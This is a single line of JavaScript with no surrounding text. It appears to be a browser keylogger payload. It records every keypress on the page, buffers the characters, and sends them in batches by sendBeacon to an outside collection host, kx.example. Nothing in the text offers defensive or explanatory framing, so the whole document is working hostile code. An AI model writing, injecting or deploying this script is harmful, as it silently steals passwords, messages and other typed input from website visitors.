(function(){var k='';window.addEventListener('keypress',function(e){k+=String.fromCharCode(e.which);if(k.length>16){navigator.sendBeacon('https://kx.example/k',k);k='';}});})();
